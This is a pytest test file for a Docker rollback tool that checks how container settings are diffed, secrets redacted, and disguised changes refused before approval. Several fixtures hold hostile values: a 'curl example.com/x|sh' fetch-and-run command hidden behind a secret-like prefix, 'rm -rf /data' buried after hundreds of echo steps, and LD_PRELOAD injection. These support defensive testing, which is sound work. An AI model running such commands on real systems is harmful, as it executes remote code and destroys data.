import pytest

from fermata.integrations.docker.blueprint import (
    build_blueprint,
    describe_blueprint,
    describe_container,
    write_diff,
)
from fermata.kit.errors import UserError
from fermata.kit.showing import refuse_lost

ID = "c0ffee" * 10 + "c0de"
OLD, NEW = "sha256:" + "1" * 64, "sha256:" + "2" * 64
MARK = "act-1.0123456789ab"


def image(image_id=NEW, tags=("shop:2",), **config):
    """Give an image as the engine inspects it."""
    return {"Id": image_id, "RepoTags": list(tags), "Config": config}


def container(config=None, host=None, mounts=(), networks=None):
    """Give a container of shop:2 as the engine inspects it."""
    return {
        "Id": ID,
        "Image": NEW,
        "Config": {"Image": "shop:2", "Hostname": ID[:12], "Env": None, "Labels": None} | (config or {}),
        "HostConfig": {"NetworkMode": "bridge", "Binds": None} | (host or {}),
        "Mounts": list(mounts),
        "NetworkSettings": {"Networks": networks if networks is not None else {"bridge": {"Aliases": None}}},
    }


def rebuild(one, present=None, other=None):
    """Return the body to create it from shop:1 with."""
    previous = other or image(OLD, ("shop:1",))
    return build_blueprint(one, present or image(), previous, "shop:1", MARK)


def test_what_the_image_brought_goes_with_the_image():
    """Variables, labels, ports and commands that merely repeat the image are left to the other one."""
    present = image(
        Env=["A=1", "B=1"], Cmd=["serve"], Labels={"release": "2", "x": "1"}, ExposedPorts={"80/tcp": {}}, User="app"
    )
    one = container(
        {
            "Env": ["A=1", "B=2", "C=3"],
            "Cmd": ["serve"],
            "Labels": {"release": "2", "x": "9"},
            "User": "app",
            "ExposedPorts": {"80/tcp": {}, "81/tcp": {}},
            "WorkingDir": "/own",
        }
    )

    body = rebuild(one, present).body

    assert body["Env"] == ["B=2", "C=3"]
    assert (body["Cmd"], body["Entrypoint"]) == (None, None)
    assert body["Labels"] == {"x": "9", "dev.fermata.action": MARK}
    assert body["ExposedPorts"] == {"81/tcp": {}}
    assert "User" not in body
    assert (body["WorkingDir"], body["Image"]) == ("/own", "shop:1")
    assert "Hostname" not in body


@pytest.mark.parametrize(
    ("entrypoint", "command", "expected"),
    [
        (["run"], ["other"], (None, ["other"])),
        (["own"], ["serve"], (["own"], ["serve"])),
        (["own"], None, (["own"], None)),
    ],
)
def test_command_stands_on_its_entrypoint(entrypoint, command, expected):
    """A command of one's own may stand on the image's entrypoint; an entrypoint of one's own keeps its command."""
    present = image(Entrypoint=["run"], Cmd=["serve"])

    body = rebuild(container({"Entrypoint": entrypoint, "Cmd": command}), present).body

    assert (body["Entrypoint"], body["Cmd"]) == expected


def test_name_that_now_means_another_image_is_not_used():
    """`latest` was moved: the image is named by its id."""
    moved = image(OLD, ())

    assert rebuild(container(), other=moved).body["Image"] == OLD


def test_compose_label_of_the_image_follows_the_image():
    """Compose notes the image's id, and events repeat it: a wrong one would be a false witness."""
    one = container({"Labels": {"com.docker.compose.image": NEW}})

    assert rebuild(one).body["Labels"]["com.docker.compose.image"] == OLD


def test_networks_keep_what_was_asked_of_them():
    """The first is created with, the others are connected; addresses the engine gave are not asked for again."""
    endpoint = {
        "Aliases": ["pay", ID[:12]],
        "IPAddress": "172.18.0.2",
        "MacAddress": "02:42",
        "IPAMConfig": {"IPv4Address": "172.18.0.9"},
    }
    one = container(host={"NetworkMode": "back"}, networks={"front": {"Aliases": None}, "back": endpoint})

    blueprint = rebuild(one)

    wanted = {"IPAMConfig": {"IPv4Address": "172.18.0.9"}, "Aliases": ["pay"]}
    assert blueprint.body["NetworkingConfig"] == {"EndpointsConfig": {"back": wanted}}
    assert blueprint.further_networks == {"front": {}}


@pytest.mark.parametrize("mode", ["host", "none", "container:abc"])
def test_shared_networks_have_no_endpoints(mode):
    """Another's network, or none: there is nothing to connect."""
    blueprint = rebuild(container(host={"NetworkMode": mode}, networks={mode: {}}))

    assert blueprint.body["NetworkingConfig"] == {"EndpointsConfig": {}}
    assert blueprint.further_networks == {}


def test_volumes_without_a_name_are_named():
    """Data stays: what the image declares, and mounts that the engine named by itself."""
    mounts = [
        {"Type": "volume", "Name": "aaa", "Destination": "/cache", "RW": True},
        {"Type": "volume", "Name": "bbb", "Destination": "/ro", "RW": False},
        {"Type": "volume", "Name": "ccc", "Destination": "/data", "RW": True},
        {"Type": "volume", "Name": "named", "Destination": "/named", "RW": True},
        {"Type": "bind", "Source": "/srv", "Destination": "/srv"},
    ]
    host = {"Binds": ["named:/named", "/srv:/srv:ro"], "Mounts": [{"Type": "volume", "Target": "/data"}]}
    one = container(host=host, mounts=mounts)

    settled = rebuild(one).body["HostConfig"]

    assert settled["Binds"] == ["named:/named", "/srv:/srv:ro", "aaa:/cache", "bbb:/ro:ro"]
    assert settled["Mounts"] == [{"Type": "volume", "Target": "/data", "Source": "ccc"}]
    assert one["HostConfig"]["Mounts"] == [{"Type": "volume", "Target": "/data"}]


def test_description_foretells_the_container():
    """The diff on the card is between the container and what it would be, secrets as digests."""
    present = image(Env=["RELEASE=2"], Cmd=["serve"])
    previous = image(OLD, ("shop:1",), Env=["RELEASE=1"], Cmd=["serve", "--old"])
    one = container({"Env": ["RELEASE=2", "PORT=80", "DB_PASSWORD=hunter2-Vq8x"], "Cmd": ["serve"]})

    before = describe_container(one, ["PORT", "RELEASE"])
    after = describe_blueprint(rebuild(one, present, previous), previous, ["PORT", "RELEASE"])

    diff = write_diff(before, after, "x").splitlines()
    assert [line for line in diff if line[0] in "+-"][2:] == [
        *("-image: shop:2", f"-image id: {NEW}", "+image: shop:1", f"+image id: {OLD}"),
        *('-cmd: ["serve"]', '+cmd: ["serve", "--old"]', "-env RELEASE=2", "+env RELEASE=1"),
    ]
    assert "hunter2" not in "\n".join((*before.shown, *after.shown))


def _show_change(before, after):
    """Return what a card says of going from one image's settings to another's, the container having none of its own."""
    present, previous = image(**before), image(OLD, ("shop:1",), **after)
    one = container(before)
    diff = write_diff(
        describe_container(one, ["*"]), describe_blueprint(rebuild(one, present, previous), previous, ["*"]), "x"
    )
    return diff, [line[1:] for line in diff.split("\n") if line.startswith("+")][3:]


@pytest.mark.parametrize(
    ("before", "after", "shown"),
    [
        ({"Cmd": ["echo step; " * 300 + "serve"]}, {"Cmd": ["echo step; " * 300 + "rm -rf /data"]}, "rm -rf /data"),
        ({"Cmd": ["# note serve"]}, {"Cmd": ["# note\nserve"]}, "# note\\nserve"),
        ({"Cmd": ["a  b"]}, {"Cmd": ["a b"]}, '["a b"]'),
        ({"Cmd": ["a b"]}, {"Cmd": ["a", "b"]}, '["a", "b"]'),
        ({}, {"Healthcheck": {"Test": ["CMD-SHELL", "touch /checked"]}}, "touch /checked"),
        ({}, {"StopSignal": "SIGKILL"}, "SIGKILL"),
        ({}, {"Volumes": {"/data": {}}}, "volume /data"),
        ({}, {"ExposedPorts": {"22/tcp": {}}}, "exposed 22/tcp"),
        ({"Env": ["A=1 2"]}, {"Env": ["A=1\u20282"]}, "A=1\\u20282"),
    ],
)
def test_whatever_becomes_different_is_shown_to_its_end(before, after, shown):
    """No two settings look the same: what is not on the card would be approved unseen."""
    diff, added = _show_change(before, after)

    refuse_lost(diff)
    assert any(shown in line for line in added)


@pytest.mark.parametrize("command", ["PASSWORD=`curl example.com/x|sh`", "token=abc;curl example.com/x|sh"])
def test_command_behind_the_mark_of_a_secret_is_refused(command):
    """More than a value would be hidden."""
    diff, _ = _show_change({"Cmd": ["serve"]}, {"Cmd": ["sh", "-c", command]})

    with pytest.raises(UserError, match="cannot be shown"):
        refuse_lost(diff)


TOKEN = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z0A"


@pytest.mark.parametrize(
    "config",
    [
        {"Entrypoint": [f"/opt/{TOKEN}"]},
        {"Entrypoint": [TOKEN]},
        {"Cmd": ["sh", "-c", TOKEN]},
        {"Cmd": ["python", TOKEN]},
        {"Cmd": ["serve", "--plugin", TOKEN]},
        {"Healthcheck": {"Test": ["CMD", TOKEN]}},
        {"User": TOKEN},
        {"Env": [f"GIT_SSH_COMMAND={TOKEN}"]},
        {"Env": [f"LD_PRELOAD={TOKEN}"]},
        {"Cmd": ["python", TOKEN, "\u00a0"]},
        {"Cmd": ["serve", "--plugin", TOKEN, "\u202e"]},
    ],
)
def test_what_is_run_behind_the_mark_of_a_secret_is_refused(config):
    """What looks like a secret may name a program as well."""
    diff, _ = _show_change({"Cmd": ["serve"]}, config)

    with pytest.raises(UserError, match="cannot be shown"):
        refuse_lost(diff)


def test_secret_of_an_option_may_change():
    """The option says what it is, and the digest that it is another one."""
    diff, added = _show_change({"Cmd": ["serve", "--token", "hunter2-Vq8x"]}, {"Cmd": ["serve", "--token", TOKEN]})

    refuse_lost(diff)
    assert any(line.startswith('cmd: ["serve", "--token", "[redacted:') for line in added)


def test_secret_in_a_label_may_change():
    """Nothing of it is run, and the digest says that it is another one."""
    labels = [{"Labels": {"plan": f'{{"token": "{token}"}}'}} for token in (TOKEN, TOKEN[::-1])]

    diff, added = _show_change(*labels)

    refuse_lost(diff)
    assert any(line.startswith('label plan={"token": "[redacted:') for line in added)


def test_values_that_were_made_to_look_the_same_are_refused():
    """Both have the digest f7ad15b6, so that the change would stand nowhere on the card."""
    values = [f"DATABASE_URL=postgres://shop:p{number}@db/shop" for number in (46428, 78479)]

    with pytest.raises(UserError, match="cannot be shown"):
        _show_change({"Env": values[:1]}, {"Env": values[1:]})


def test_check_of_ones_own_takes_the_rest_from_the_image():
    """As the engine does: what is zero is left open."""
    one = container({"Healthcheck": {"Test": ["CMD", "own"], "Interval": 0}})
    previous = image(OLD, ("shop:1",), Healthcheck={"Test": ["CMD", "theirs"], "Interval": 7})

    lines = describe_blueprint(rebuild(one, other=previous), previous, ["*"])

    assert 'health check: {"Test": ["CMD", "own"], "Interval": 7}' in lines.shown
